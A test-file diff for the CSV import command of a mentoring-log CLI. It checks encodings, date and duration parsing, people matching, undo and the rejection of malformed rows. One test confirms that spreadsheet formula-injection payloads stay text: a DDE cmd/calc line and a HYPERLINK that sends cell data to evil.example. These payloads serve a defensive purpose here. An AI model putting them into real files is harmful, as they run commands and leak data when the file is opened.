@@ -1,0 +1,418 @@
+"""`mentorlog import`: every sample as its description says, all or nothing, taken back without a trace."""
+
+import json
+import sqlite3
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mentorlog.host import Host
+from tests.cli.conftest import ANA, Run
+
+SAMPLES = Path(__file__).parents[1] / "exchange" / "incoming" / "samples"
+EXPECTED = json.loads((SAMPLES / "expected.json").read_bytes())
+FORMS, GERMAN, TOGGL, CLIENTS = (
+    "01_google_forms.csv",
+    "02_excel_de_semicolon_bom.csv",
+    "04_toggl_detailed.csv",
+    "09_icf_client_log.csv",
+)
+
+
+def contents(host: Host) -> dict[str, list[tuple[Any, ...]]]:
+    """Return every row of every table but those of the event log."""
+    with sqlite3.connect(host.database) as connection:
+        names = [row[0] for row in connection.execute("SELECT name FROM sqlite_schema WHERE type = 'table'")]
+        tables = {
+            name: sorted(connection.execute(f'SELECT * FROM "{name}"').fetchall(), key=repr)
+            for name in names
+            if not name.startswith("event")
+        }
+    connection.close()
+    return tables
+
+
+def fates(answer: Any) -> dict[int, str]:
+    """Return what becomes of each row."""
+    return {row["row"]: row["fate"] for row in answer["rows"]}
+
+
+def noticed(answer: Any) -> dict[str, str]:
+    """Return what was found out about a file."""
+    return {each["what"]: each["found"] for each in answer["noticed"]}
+
+
+def table(folder: Path, *lines: str, encoding: str = "utf-8") -> str:
+    """Write a table and return where it is."""
+    path = folder / "log.csv"
+    path.write_bytes("\n".join(lines).encode(encoding))
+    return str(path)
+
+
+def test_the_form_is_looked_at_row_by_row(year: Run) -> None:
+    """One repeat, one impossible day, one to be decided, and formulas that stay text."""
+    outcome = year("import", str(SAMPLES / FORMS), "--dry-run", "--json")
+    answer, expected = outcome.json, EXPECTED[FORMS]
+    assert outcome.code == 1
+    assert noticed(answer)["encoding"].startswith(expected["encoding"])
+    assert "13/11/2024" in noticed(answer)["days"]
+    assert fates(answer) == {1: "new", 2: "same", 3: "new", 4: "new", 5: "rejected", 6: "undecided"}
+    assert len(answer["rows"]) == expected["data_rows"]
+    assert answer["rows"][4]["reasons"] == ["30/02/2025 does not exist."]
+    [doubt] = answer["rows"][5]["doubts"]
+    assert doubt["answers"] == ["2025-12-05", "2025-05-12"]
+    assert [row["entry"]["minutes"] for row in answer["rows"] if row["fate"] == "new"] == [60, 45, 90]
+    formula = answer["rows"][3]["entry"]["private"]
+    assert formula.startswith("@SUM(1+1)*cmd|' /C calc'!A0")
+    assert '=HYPERLINK("http://evil.example/?x="&A1,"Tom")' in formula
+
+
+def test_nothing_is_taken_in_before_all_is_decided(year: Run, host: Host) -> None:
+    """Then all of it, the row that was asked about among it."""
+    before = contents(host)
+    refused = year("import", str(SAMPLES / FORMS), "--yes")
+    assert refused.code == 2
+    assert "Row 6: 05/12/2025" in refused.err
+    assert contents(host) == before
+    taken = year("import", str(SAMPLES / FORMS), "--yes", "--json", "--answer", "6:day=2025-05-12")
+    assert taken.json["counts"] == {"new": 4, "rejected": 1, "same": 1}
+    assert len(year("meetings", "--json").json) == 4
+    assert {meeting["batch"] for meeting in year("meetings", "--json").json} == {taken.json["batch"]["id"]}
+    left_out = year("import", str(SAMPLES / FORMS), "--dry-run", "--skip", "undecided")
+    assert left_out.code == 0
+
+
+def test_a_german_table_is_read_as_it_is_meant(year: Run) -> None:
+    """Decimal commas, a meeting over midnight, empty rows and a sum."""
+    answer, expected = year("import", str(SAMPLES / GERMAN), "--dry-run", "--json").json, EXPECTED[GERMAN]
+    assert noticed(answer)["encoding"].startswith(expected["encoding"])
+    assert noticed(answer)["between cells"].startswith("semicolon")
+    assert len(answer["rows"]) == expected["logical_records_after_header"]
+    new = [row["entry"] for row in answer["rows"] if row["fate"] == "new"]
+    assert [entry["minutes"] for entry in new] == expected["minutes"]
+    assert answer["minutes"] == 300
+    assert [entry["kind"] for entry in new] == ["one_to_one", "one_to_one", "call", "group"]
+    assert [entry["start"] for entry in new] == ["14:00", "16:00", "23:30", None]
+    assert [(row["fate"], row["reasons"][0]) for row in answer["rows"][4:]] == [
+        ("rejected", "31-11-2024 does not exist."),
+        ("skipped", "The row is empty."),
+        ("skipped", "It is a total: 6,00."),
+        ("skipped", "The row is empty."),
+    ]
+
+
+def test_a_time_sheet_is_filtered_by_client(year: Run) -> None:
+    """Of four rows one is a repeat and one took no time; a timer that nobody stopped is asked about."""
+    options = ("--dry-run", "--json", "--others", "1")
+    answer = year("import", str(SAMPLES / TOGGL), "--client", "Peer mentoring 24/25", *options).json
+    assert fates(answer) == {1: "new", 2: "new", 3: "same", 4: "skipped", 5: "new", 6: "skipped"}
+    new = [row["entry"]["minutes"] for row in answer["rows"] if row["fate"] == "new"]
+    assert new == [round(minutes) for minutes in EXPECTED[TOGGL]["minutes"]]
+    assert "It took no time." in answer["rows"][4]["reasons"]
+    all_of_it = year("import", str(SAMPLES / TOGGL), *options).json
+    assert "47:10:00" in all_of_it["rows"][3]["reasons"][0]
+
+
+def test_a_client_log_brings_hours_forward_and_no_meetings(year: Run, host: Host) -> None:
+    """A group that is too large is pointed out, the sum is no client, and nothing is kept of anybody."""
+    path = str(SAMPLES / CLIENTS)
+    asked = year("import", path, "--dry-run", "--json")
+    assert asked.code == 1
+    assert "No rule of Five meetings a year adds up time" in asked.json["doubts"][0]
+    assert "consent withheld" not in asked.out
+    year("programme", "use", "emcc-eia-f", "--from", "2025-09-01", "--to", "2026-06-30")
+    rule, before = asked_rule(year, path), contents(host)
+    taken = year("import", path, "--yes", "--json", "--requirement", rule)
+    assert fates(taken.json) == {1: "new", 2: "new", 3: "rejected", 4: "skipped"}
+    assert taken.json["minutes"] == 60 * EXPECTED[CLIENTS]["eligible_paid_hours_if_group_max_15"]
+    assert "22 is over 15" in taken.json["rows"][2]["reasons"][0]
+    assert year("meetings", "--json").json == []
+    after = repr(contents(host))
+    assert all(each not in after for each in ("consent withheld", "Client 01", "lead@example.org"))
+    again = year("import", path, "--yes", "--json", "--requirement", rule)
+    assert again.json["batch"] is None
+    assert year("import", "--undo", taken.json["batch"]["id"], "--yes").code == 0
+    assert contents(host) == before
+
+
+def asked_rule(run: Run, path: str) -> str:
+    """Return a rule that hours can count for, as the question names it."""
+    [doubt] = run("import", path, "--dry-run", "--json").json["doubts"]
+    return str(doubt).partition("--requirement ")[2].split()[0].strip(".,")
+
+
+@pytest.mark.parametrize("name", [FORMS, GERMAN, TOGGL])
+def test_the_same_file_twice_adds_nothing_and_undo_leaves_no_trace(year: Run, host: Host, name: str) -> None:
+    """Both ways of undoing: as the last change, and later by the batch."""
+    options = ("--yes", "--json", "--skip", "undecided", "--others", "1")
+    before = contents(host)
+    first = year("import", str(SAMPLES / name), *options).json
+    assert first["batch"]["entries"] == first["counts"]["new"] > 0
+    there = contents(host)
+    second = year("import", str(SAMPLES / name), *options).json
+    assert second["batch"] is None
+    assert "new" not in second["counts"]
+    assert "taken in on" in noticed(second)["before"]
+    assert contents(host) == there
+    assert year("undo", "--yes").code == 0
+    assert contents(host) == before
+    assert year("redo", "--yes").code == 0
+    there = contents(host)
+    year("log", "2026-03-10 45m with M-03")
+    meanwhile = contents(host)
+    assert year("import", "--undo", first["batch"]["id"], "--yes").code == 0
+    assert year("import", "--list", "--json").json == []
+    left = contents(host)
+    assert left["meeting"] == [row for row in meanwhile["meeting"] if row not in there["meeting"]]
+    assert left["batch"] == []
+
+
+def test_a_batch_that_was_worked_with_is_taken_back_with_care(year: Run, tmp_path: Path) -> None:
+    """What was changed since is named, and what others refer to is not taken from under them."""
+    path = table(tmp_path, "Date,Minutes,Mentee", "2026-03-01,45,Zoe", "2026-03-02,30,M-01")
+    taken = year("import", path, "--yes", "--json", "--add-people").json
+    assert [mentee["name"] for mentee in year("mentees", "--json").json][-1] == "Zoe"
+    first, second = (meeting["id"] for meeting in year("meetings", "--json").json)
+    year("meetings", "edit", first, "50m")
+    year("log", "2026-03-10 45m with Zoe")
+    year("reflect", "It went well.", "--meeting", second)
+    blocked = year("import", "--undo", taken["batch"]["id"], "--yes")
+    assert blocked.code == 2
+    assert "1 entry refer" in blocked.err or "1 entr" in blocked.err
+    year("reflections", "delete", year("reflections", "--json").json[0]["id"])
+    undone = year("import", "--undo", taken["batch"]["id"], "--yes", "--json").json
+    assert undone["removed"] == 2
+    assert len(undone["edited"]) == 1
+    assert len(undone["kept"]) == 1
+    assert len(year("meetings", "--json").json) == 1
+
+
+@pytest.mark.parametrize(
+    ("days", "option", "first"),
+    [
+        (("03/04/2026", "05/06/2026"), "dmy", "2026-04-03"),
+        (("03/04/2026", "05/06/2026"), "mdy", "2026-03-04"),
+    ],
+)
+def test_the_order_of_dates_is_asked_when_nothing_proves_it(
+    year: Run, tmp_path: Path, days: tuple[str, str], option: str, first: str
+) -> None:
+    """It is never taken from a setting or the machine."""
+    path = table(tmp_path, "Date,Minutes,Mentee", *(f"{day},45,M-01" for day in days))
+    asked = year("import", path, "--dry-run", "--json")
+    assert asked.code == 1
+    assert "--dates" in asked.json["doubts"][0]
+    assert year("import", path, "--yes").code == 2
+    answer = year("import", path, "--dry-run", "--json", "--dates", option).json
+    assert answer["rows"][0]["entry"]["day"] == first
+
+
+def test_dates_that_contradict_each_other_are_asked_about(year: Run, tmp_path: Path) -> None:
+    """Both are named; those that do not fit the order that is chosen are rejected."""
+    path = table(tmp_path, "Date,Minutes,Mentee", "31/01/2026,45,M-01", "01/31/2026,45,M-03")
+    assert "31/01/2026" in year("import", path, "--dry-run", "--json").json["doubts"][0]
+    assert fates(year("import", path, "--dry-run", "--json", "--dates", "dmy").json) == {
+        1: "new",
+        2: "rejected",
+    }
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
+def test_the_encoding_is_found_and_can_be_chosen(year: Run, tmp_path: Path, encoding: str) -> None:
+    """By its mark, because it is UTF-8, or as what older programs wrote."""
+    lines = ("Datum;Minuten;Mentee;Notizen", "2.3.2026;45;M-01;Übung – schön", "3.3.2026;30;M-03;Größe")
+    path = table(tmp_path, *lines, encoding=encoding)
+    for options in ((), ("--encoding", encoding, "--delimiter", "semicolon")):
+        answer = year("import", path, "--dry-run", "--json", *options).json
+        assert [row["entry"]["private"] for row in answer["rows"]] == ["Übung – schön", "Größe"], answer
+    assert year("import", path, "--encoding", "klingon", "--dry-run").code == 2
+
+
+def test_letters_of_other_scripts_are_told_apart(year: Run, tmp_path: Path) -> None:
+    """Cyrillic is no Latin text with accents, though every byte would be a letter there too."""
+    words = "Разговор о подготовке к экзамену и о расписании занятий на следующую неделю"
+    path = table(tmp_path, "Date,Minutes,Mentee,Notes", f"2026-03-02,45,M-01,{words}", encoding="cp1251")
+    answer = year("import", path, "--dry-run", "--json").json
+    assert answer["rows"][0]["entry"]["private"] == words
+    assert "cp1251" in noticed(answer)["encoding"]
+
+
+@pytest.mark.parametrize(
+    ("heading", "cell", "minutes"),
+    [
+        ("Duration", "1h30", 90),
+        ("Duration", "90 mins", 90),
+        ("Dauer (Std.)", "1,5", 90),
+        ("Dauer", "1 Std. 30 Min.", 90),
+        ("Duration", "01:29:31", 90),
+        ("Minutes", "90", 90),
+        ("Hours", "1.5", 90),
+        ("Duration", "an hour and a half", 90),
+        ("Durée", "1,5", 90),
+    ],
+)
+def test_lengths_are_read_as_they_are_written(
+    year: Run, tmp_path: Path, heading: str, cell: str, minutes: int
+) -> None:
+    """With words, colons, points and commas, in the unit of their column."""
+    path = table(tmp_path, f"Date\t{heading}\tMentee", f"2026-03-02\t{cell}\tM-01")
+    answer = year("import", path, "--dry-run", "--json").json
+    assert answer["rows"][0]["entry"]["minutes"] == minutes, answer
+
+
+def test_what_bare_numbers_count_is_asked_when_nothing_proves_it(year: Run, tmp_path: Path) -> None:
+    """Two may be hours or minutes."""
+    path = table(tmp_path, "Date,Duration,Mentee", "2026-03-02,2,M-01")
+    assert '--map "Duration"=hours' in year("import", path, "--dry-run", "--json").json["doubts"][0]
+    answer = year("import", path, "--dry-run", "--json", "--map", "Duration=hours").json
+    assert answer["rows"][0]["entry"]["minutes"] == 120
+
+
+def test_columns_are_remembered_for_the_next_table_like_it(year: Run, host: Host, tmp_path: Path) -> None:
+    """Only what was said, and only for these headings; what is broken says nothing."""
+    lines = ("A,B,C", "2026-03-02,45,M-01")
+    path = table(tmp_path, *lines)
+    assert "No column is known to hold the day" in year("import", path, "--dry-run").out
+    mapping = ("--map", "A=day", "--map", "B=minutes", "--map", "C=people")
+    assert year("import", path, "--yes", *mapping).code == 0
+    path = table(tmp_path, lines[0], "2026-03-03,30,M-03")
+    answer = year("import", path, "--dry-run", "--json").json
+    assert fates(answer) == {1: "new"}
+    assert "before" in noticed(answer)["columns"]
+    assert host.import_columns.stat().st_mode & 0o777 == 0o600
+    host.import_columns.write_text("[[[")
+    assert year("import", path, "--dry-run", "--json").json["doubts"] != []
+
+
+def test_people_are_matched_asked_about_or_counted(year: Run, tmp_path: Path) -> None:
+    """By pseudonym and by name; a name that is nearly one is asked about, and anybody else is an other."""
+    year("mentees", "edit", "M-01", "--name", "Amina Khan")
+    rows = ("M-01", "amina khan", "Amina", "Amina Khann", "Somebody Else", f"{ANA}; M-03")
+    lines = [f"2026-03-{day:02},45,{who}" for day, who in enumerate(rows, 1)]
+    path = table(tmp_path, "Date,Minutes,Mentee", *lines)
+    answer = year("import", path, "--dry-run", "--json").json
+    assert fates(answer) == {1: "new", 2: "new", 3: "undecided", 4: "undecided", 5: "new", 6: "new"}
+    assert answer["unknown_people"] == {"Somebody Else": 1}
+    assert answer["rows"][4]["entry"]["others"] == 1
+    assert "With Somebody Else." in answer["rows"][4]["entry"]["private"]
+    assert len(answer["rows"][5]["entry"]["mentees"]) == 2
+    said = ("--person", "Amina=M-01", "--person", "Amina Khann=", "--person", "Somebody Else=new")
+    taken = year("import", path, "--yes", "--json", *said).json
+    assert taken["counts"] == {"new": 6}
+    assert [mentee["name"] for mentee in year("mentees", "--json").json][-1] == "Somebody Else"
+    assert year("import", path, "--dry-run", "--person", "Amina=Nobody").code == 2
+
+
+@pytest.mark.parametrize("sign", ["\u202e", "\x07", "\u2066"])
+def test_names_with_signs_that_change_how_they_look_are_refused(year: Run, tmp_path: Path, sign: str) -> None:
+    """The row is rejected, and the sign is named and never printed."""
+    path = table(tmp_path, "Date,Minutes,Mentee", f"2026-03-02,45,An{sign}a")
+    outcome = year("import", path, "--dry-run")
+    assert f"U+{ord(sign):04X}" in outcome.out
+    assert sign not in outcome.out
+    assert fates(year("import", path, "--dry-run", "--json").json) == {1: "rejected"}
+
+
+def test_what_is_nearly_there_already_is_asked_about(year: Run, tmp_path: Path) -> None:
+    """The same time with the same person in other words; it can be taken in all the same."""
+    year("log", "2026-03-02 14:00 45m with M-01 about exams")
+    path = table(
+        tmp_path,
+        "Date,Start,Minutes,Mentee,Topic",
+        "2026-03-02,14:00,45,M-01,Prüfung",
+        "2026-03-02,09:00,45,M-01,",
+    )
+    answer = year("import", path, "--dry-run", "--json").json
+    assert fates(answer) == {1: "alike", 2: "new"}
+    assert fates(year("import", path, "--dry-run", "--json", "--take", "1").json) == {1: "new", 2: "new"}
+    assert fates(year("import", path, "--dry-run", "--json", "--skip", "1").json) == {1: "skipped", 2: "new"}
+
+
+def test_a_row_that_is_to_come_is_planned(year: Run, tmp_path: Path) -> None:
+    """The clock of the host says what is to come."""
+    path = table(tmp_path, "Date,Minutes,Mentee", "2026-05-02,45,M-01")
+    answer = year("import", path, "--dry-run", "--json").json
+    assert answer["rows"][0]["entry"]["status"] == "planned"
+
+
+@pytest.mark.parametrize(
+    ("lines", "said"),
+    [
+        (("Date,Minutes,Mentee", '2026-03-02,45,"M-01'), "quotation mark is not closed"),
+        (("Date,Minutes,Mentee", ",".join("x" * 300)), "300 cells"),
+        (("Date,Minutes,Mentee", f"2026-03-02,45,{'x' * 100_001}"), "more than 100,000 characters"),
+    ],
+)
+def test_what_is_no_table_is_refused_in_a_sentence(
+    year: Run, host: Host, tmp_path: Path, lines: tuple[str, ...], said: str
+) -> None:
+    """With its line, and nothing is changed."""
+    before = contents(host)
+    outcome = year("import", table(tmp_path, *lines), "--yes", "--format", "csv")
+    assert outcome.code == 2
+    assert said in outcome.err
+    assert "line " in outcome.err
+    assert contents(host) == before
+
+
+def test_cells_out_of_line_and_odd_rows_are_rejected_one_by_one(year: Run, tmp_path: Path) -> None:
+    """Each says why; the others are taken in."""
+    path = table(
+        tmp_path,
+        "Date,Start,End,Minutes,Mentee,Type",
+        "2026-03-02,14:00,15:00,60,M-01,one to one",
+        "2026-03-03,14:00,15:00,60,M-01,one to one,too much",
+        ",14:00,15:00,60,M-01,one to one",
+        "soon,14:00,15:00,60,M-01,one to one",
+        "2026-03-04,25:00,,60,M-01,one to one",
+        "2026-03-05,14:00,15:00,90,M-01,one to one",
+        "2026-03-06,14:00,15:00,,M-01,flurb",
+        "2026-03-07,,,,M-01,one to one",
+        "Date,Start,End,Minutes,Mentee,Type",
+    )
+    answer = year("import", path, "--dry-run", "--json").json
+    assert fates(answer) == {
+        1: "new",
+        2: "rejected",
+        3: "rejected",
+        4: "rejected",
+        5: "rejected",
+        6: "undecided",
+        7: "undecided",
+        8: "undecided",
+        9: "skipped",
+    }
+    answers = (
+        "--answer",
+        "6:minutes=60",
+        "--answer",
+        "7:kind=group",
+        "--answer",
+        "7:others=3",
+        "--minutes",
+        "1h",
+    )
+    decided = year("import", path, "--dry-run", "--json", *answers).json
+    assert [decided["rows"][place]["fate"] for place in (5, 6, 7)] == ["new"] * 3
+    assert decided["rows"][7]["entry"]["minutes"] == 60
+    wrong = year("import", path, "--dry-run", "--answer", "6:colour=red")
+    assert wrong.code == 2
+    assert "no field colour" in wrong.err
+
+
+def test_the_dry_run_says_the_same_in_words(year: Run) -> None:
+    """A line for each row, the reasons, the people and the counts."""
+    out = year("import", str(SAMPLES / FORMS), "--dry-run").out
+    assert "rejected" in out
+    assert "30/02/2025 does not exist." in out
+    assert "6 rows: 3 new (3 h 15 min), 1 there already, 1 to be decided, 1 rejected." in out
+    assert "--add-people" in out
+
+
+def test_import_needs_a_yes_where_nobody_can_be_asked(year: Run) -> None:
+    """What is read was interpreted, so somebody has to agree."""
+    outcome = year("import", str(SAMPLES / GERMAN))
+    assert outcome.code == 2
+    assert "--yes" in outcome.err
+    assert year("import").code == 2
